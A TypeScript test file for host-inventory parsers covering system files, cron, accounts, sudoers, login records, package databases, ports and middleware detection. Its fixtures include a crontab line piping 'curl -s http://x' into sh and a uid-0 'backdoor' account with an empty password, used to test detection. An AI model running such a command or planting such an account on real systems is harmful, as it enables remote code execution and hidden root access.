import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { writeXlsx } from '../../domain/assets/xlsx-writer.js';
import type { InetSocket, ProcessInfo } from '../procfs/snapshot-types.js';
import { detectMiddleware } from './middleware.js';
import { buildAccounts, duplicateRootAccounts, LASTLOG_RECORD, parseGroup, parseLastlog, parsePasswd, parseShadow, parseSudoers, parseWtmp, UTMP_RECORD } from './parse-accounts.js';
import { parseCrontab } from './parse-cron.js';
import { jarNameFromFile, parseApkInstalled, parseDpkgStatus, parseJarManifest, parseNpmPackageJson, parsePythonMetadata, parseRpmQuery } from './parse-packages.js';
import { parseCpuInfo, parseMemTotal, parseModules, parseOsRelease } from './parse-system.js';
import { listeningPorts } from './ports.js';
import { bufferSource, readZipEntry } from './zip-entry.js';

const fixture = (name: string) => readFileSync(new URL(`./fixtures/${name}`, import.meta.url), 'utf8');

describe('system parsers', () => {
  it('reads os-release with quotes and escapes', () => {
    const r = parseOsRelease('PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\nID=debian\nVERSION_ID="12"\nNAME="a \\"quoted\\" name"\n# comment\n');
    expect(r).toMatchObject({ PRETTY_NAME: 'Debian GNU/Linux 12 (bookworm)', ID: 'debian', VERSION_ID: '12', NAME: 'a "quoted" name' });
  });
  it('reads cpuinfo, meminfo and modules', () => {
    expect(parseCpuInfo('processor\t: 0\nmodel name\t: AMD EPYC 7B13\n\nprocessor\t: 1\nmodel name\t: AMD EPYC 7B13\n')).toEqual({ model: 'AMD EPYC 7B13', processors: 2 });
    expect(parseMemTotal('MemTotal:       24684104 kB\nMemFree: 1 kB\n')).toBe(24684104 * 1024);
    expect(parseModules('nf_tables 311296 2 nft_chain_nat,nft_ct, Live 0x0\nloop 32768 0 - Live 0x0\n')).toEqual([
      { name: 'nf_tables', size: 311296, refCount: 2, usedBy: ['nft_chain_nat', 'nft_ct'], state: 'Live' },
      { name: 'loop', size: 32768, refCount: 0, usedBy: [], state: 'Live' },
    ]);
  });
});

describe('cron', () => {
  it('parses system and spool crontabs, skipping env lines and comments', () => {
    expect(parseCrontab('MAILTO=root\n# x\n@reboot root /opt/start.sh --flag  a\n*/5  *  * * 1-5 www-data php /var/www/cron.php\nbad line\n', '/etc/cron.d/x')).toEqual([
      { source: '/etc/cron.d/x', user: 'root', period: '@reboot', command: '/opt/start.sh --flag  a' },
      { source: '/etc/cron.d/x', user: 'www-data', period: '*/5 * * * 1-5', command: 'php /var/www/cron.php' },
    ]);
    expect(parseCrontab('0 3 * * * curl -s http://x | sh\n', '/var/spool/cron/crontabs/bob', 'bob')).toEqual([{ source: '/var/spool/cron/crontabs/bob', user: 'bob', period: '0 3 * * *', command: 'curl -s http://x | sh' }]);
  });
});

describe('accounts', () => {
  const passwd = parsePasswd('root:x:0:0:root:/root:/bin/bash\nbackdoor:x:0:0::/tmp:/bin/sh\nsvc:x:998:998::/nonexistent:/usr/sbin/nologin\nann:x:1000:1000::/home/ann:/bin/zsh\nbroken line\n');
  it('keeps password flags, never the hash', () => {
    const shadow = parseShadow('root:$y$j9T$abc$def:19700:0:99999:7:::\nbackdoor::19700::::::\nsvc:!*:19700::::::\nann:!$6$salt$hash:19000:0:90:7::20000:\n');
    expect(shadow.get('root')).toEqual({ passwordState: 'set' });
    expect(shadow.get('backdoor')).toEqual({ passwordState: 'empty' });
    expect(shadow.get('svc')).toEqual({ passwordState: 'none' });
    expect(shadow.get('ann')).toEqual({ passwordState: 'locked', passwordExpiresAt: (19000 + 90) * 86_400_000, accountExpiresAt: 20000 * 86_400_000 });
    expect(JSON.stringify([...shadow.values()])).not.toContain('$');
  });
  it('resolves sudoers users, groups and aliases', () => {
    const s = parseSudoers('Defaults env_reset\nUser_Alias ADMINS = ann, \\\n  carl\n%sudo ALL=(ALL:ALL) ALL\nADMINS ALL=(ALL) NOPASSWD: ALL\nroot ALL=(ALL) ALL # trailing\n#includedir /etc/sudoers.d\n');
    expect([...s.users].sort()).toEqual(['ann', 'carl', 'root']);
    expect([...s.groups]).toEqual(['sudo']);
  });
  it('joins passwd, groups, sudo and last login; flags duplicate uid 0', () => {
    const lastlog = Buffer.alloc(LASTLOG_RECORD * 1001);
    lastlog.writeInt32LE(1_700_000_000, 1000 * LASTLOG_RECORD);
    lastlog.write('10.0.0.5', 1000 * LASTLOG_RECORD + 36);
    const wtmp = Buffer.alloc(UTMP_RECORD * 2);
    wtmp.writeInt32LE(7, 0);
    wtmp.write('root', 44);
    wtmp.write('192.168.1.9', 76);
    wtmp.writeInt32LE(1_690_000_000, 340);
    wtmp.writeInt32LE(8, UTMP_RECORD); // DEAD_PROCESS: ignored
    const accounts = buildAccounts({
      passwd,
      groups: parseGroup('root:x:0:\nsudo:x:27:ann\nann:x:1000:\n'),
      sudoers: parseSudoers('%sudo ALL=(ALL) ALL\n'),
      lastByUid: parseLastlog(lastlog, passwd.map((p) => p.uid)),
      lastByName: parseWtmp(wtmp),
    });
    expect(accounts.find((a) => a.name === 'ann')).toMatchObject({ sudoer: true, groups: ['ann', 'sudo'], loginShell: true, lastLoginAt: 1_700_000_000_000, lastLoginFrom: '10.0.0.5' });
    expect(accounts.find((a) => a.name === 'root')).toMatchObject({ lastLoginAt: 1_690_000_000_000, lastLoginFrom: '192.168.1.9' });
    expect(accounts.find((a) => a.name === 'svc')).toMatchObject({ sudoer: false, loginShell: false });
    expect(duplicateRootAccounts(accounts)).toEqual(['backdoor']);
  });
});

describe('packages', () => {
  it('reads dpkg status with source versions and skips removed packages', () => {
    expect(parseDpkgStatus(fixture('dpkg-status.txt'))).toEqual([
      { source: 'dpkg', name: 'libssl3', version: '3.0.15-1~deb12u1', arch: 'amd64', sourceName: 'openssl', sourceVersion: '3.0.15-1~deb12u1' },
      { source: 'dpkg', name: 'bash', version: '5.2.15-2+b7', arch: 'amd64', sourceName: 'bash', sourceVersion: '5.2.15-2+b7' },
      { source: 'dpkg', name: 'adduser', version: '3.134', arch: 'all', sourceName: 'adduser', sourceVersion: '3.134' },
    ]);
  });
  it('reads rpm query output with the source rpm', () => {
    expect(parseRpmQuery('openssl-libs\t1:3.0.7-27.el9\tx86_64\topenssl-3.0.7-27.el9.src.rpm\t1700000000\ngpg-pubkey\t3228467c-613798eb\t(none)\t(none)\t1700000001\n')).toEqual([
      { source: 'rpm', name: 'openssl-libs', version: '1:3.0.7-27.el9', arch: 'x86_64', sourceName: 'openssl', sourceVersion: '3.0.7-27.el9', installTime: 1_700_000_000_000 },
      { source: 'rpm', name: 'gpg-pubkey', version: '3228467c-613798eb', installTime: 1_700_000_001_000 },
    ]);
  });
  it('reads apk, Python metadata, package.json and jar names', () => {
    expect(parseApkInstalled('C:Q1abc=\nP:libcrypto3\nV:3.1.4-r5\nA:x86_64\no:openssl\n\nP:musl\nV:1.2.4-r2\n')).toEqual([
      { source: 'apk', name: 'libcrypto3', version: '3.1.4-r5', arch: 'x86_64', sourceName: 'openssl', sourceVersion: '3.1.4-r5' },
      { source: 'apk', name: 'musl', version: '1.2.4-r2', sourceName: 'musl', sourceVersion: '1.2.4-r2' },
    ]);
    expect(parsePythonMetadata('Metadata-Version: 2.1\r\nName: Jinja2\r\nVersion: 3.1.2\r\n\r\nVersion: 9.9 in the body\n')).toEqual({ name: 'Jinja2', version: '3.1.2' });
    expect(parseNpmPackageJson('{"name":"lodash","version":"4.17.20"}')).toEqual({ name: 'lodash', version: '4.17.20' });
    expect(parseNpmPackageJson('{"version":"1"}')).toBeNull();
    expect(parseNpmPackageJson('not json')).toBeNull();
    expect(jarNameFromFile('log4j-core-2.14.1.jar')).toEqual({ name: 'log4j-core', version: '2.14.1' });
    expect(jarNameFromFile('commons-lang3-3.12.0-SNAPSHOT.jar')).toEqual({ name: 'commons-lang3', version: '3.12.0-SNAPSHOT' });
    expect(jarNameFromFile('app.jar')).toEqual({ name: 'app', version: '' });
    expect(parseJarManifest('Manifest-Version: 1.0\r\nImplementation-Title: Apache Log4j Co\r\n re\r\nImplementation-Version: 2.14.1\r\n')).toEqual({ name: 'Apache Log4j Core', version: '2.14.1' });
  });
  it('reads one entry of a zip archive (a jar or xlsx) and rejects damaged ones', () => {
    const xlsx = writeXlsx('s', [['a', 1]]);
    const rels = readZipEntry(bufferSource(xlsx), '_rels/.rels');
    expect(rels?.toString('utf8')).toContain('officeDocument');
    expect(readZipEntry(bufferSource(xlsx), 'missing')).toBeNull();
    expect(readZipEntry(bufferSource(xlsx.subarray(0, xlsx.length - 30)), '_rels/.rels')).toBeNull();
    expect(readZipEntry(bufferSource(xlsx), 'xl/worksheets/sheet1.xml', 10)).toBeNull();
  });
});

describe('ports and middleware', () => {
  const sock = (inode: number, proto: InetSocket['proto'], port: number, state: InetSocket['state'], remotePort = 0): InetSocket => ({ inode, proto, localAddress: proto.endsWith('6') ? '::' : '0.0.0.0', localPort: port, remoteAddress: proto.endsWith('6') ? '::' : '0.0.0.0', remotePort, state, uid: 0 });
  const proc = (pid: number, ppid: number, comm: string, inodes: number[], exe?: string): ProcessInfo => ({ pid, ppid, uid: 0, comm, cmdline: [comm], startTime: 0, fds: inodes.map((inode, fd) => ({ fd, target: `socket:[${inode}]`, kind: 'socket', inode })), ...(exe ? { exe } : {}) });
  it('keeps listening TCP and unconnected UDP with the lowest owning pid', () => {
    const procs = [proc(20, 10, 'nginx', [1]), proc(10, 1, 'nginx', [1]), proc(30, 1, 'named', [3])];
    const ports = listeningPorts(procs, [sock(1, 'tcp', 80, 'LISTEN'), sock(2, 'tcp', 5555, 'ESTABLISHED', 443), sock(3, 'udp', 53, 'CLOSE'), sock(4, 'udp', 4000, 'ESTABLISHED', 53), sock(5, 'tcp6', 22, 'LISTEN')]);
    expect(ports).toEqual([
      { proto: 'tcp6', bindIp: '::', port: 22 },
      { proto: 'udp', bindIp: '0.0.0.0', port: 53, pid: 30, procName: 'named' },
      { proto: 'tcp', bindIp: '0.0.0.0', port: 80, pid: 10, procName: 'nginx' },
    ]);
  });
  it('folds server workers into their master and recognises tomcat', () => {
    const p = (pid: number, ppid: number, name: string, exe: string, cmdline = name) => ({ pid, ppid, uid: 0, user: 'root', name, exe, cmdline, startTime: 0, state: 'S' });
    const mw = detectMiddleware(
      [p(10, 1, 'nginx', '/usr/sbin/nginx'), p(11, 10, 'nginx', '/usr/sbin/nginx'), p(40, 1, 'java', '/usr/lib/jvm/bin/java', 'java -Dcatalina.base=/var/lib/tomcat10 org.apache.catalina.startup.Bootstrap start'), p(50, 1, 'bash', '/bin/bash')],
      [{ proto: 'tcp', bindIp: '0.0.0.0', port: 80, pid: 11, procName: 'nginx' }, { proto: 'tcp', bindIp: '0.0.0.0', port: 8080, pid: 40, procName: 'java' }],
    );
    expect(mw.map((m) => [m.kind, m.pid, m.ports])).toEqual([['nginx', 10, [80]], ['tomcat', 40, [8080]]]);
  });
});
